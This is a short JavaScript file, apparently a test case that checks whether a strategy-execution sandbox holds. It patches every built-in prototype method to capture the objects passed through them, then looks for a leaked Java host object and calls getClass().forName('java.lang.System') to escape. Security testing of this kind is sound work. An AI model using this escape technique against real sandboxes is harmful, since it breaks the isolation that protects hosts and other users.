// attack: replaces what our own words call: iterators, species, call, apply, bind
// alone: what all objects share is changed for those after it
// exit: 1
export const strategy = { api: 1 };
export function signals(d) {
  const seen = [], apply = Reflect.apply;
  for (const shared of [Function.prototype, Array.prototype, Object, Reflect, Map.prototype, Set.prototype]) {
    for (const name of Reflect.ownKeys(shared)) {
      try {
        const old = shared[name];
        if (typeof old !== "function" || name === "constructor") continue;
        Object.defineProperty(shared, name, { value: function (...words) {
          seen[seen.length] = this;
          for (let i = 0; i < words.length; i++) seen[seen.length] = words[i];
          return apply(old, this, words);
        } });
      } catch { }
    }
  }
  try { d.ta.sma(d.close, 3).above(d.params); } catch { }
  for (let i = 0; i < seen.length; i++) {
    const each = seen[i];
    if (each && typeof each === "object" && typeof each.getClass === "function") {
      throw new Error("ESC" + "APED " + each.getClass().forName("java.lang.System"));
    }
  }
  throw new Error("held: " + seen.length);
}
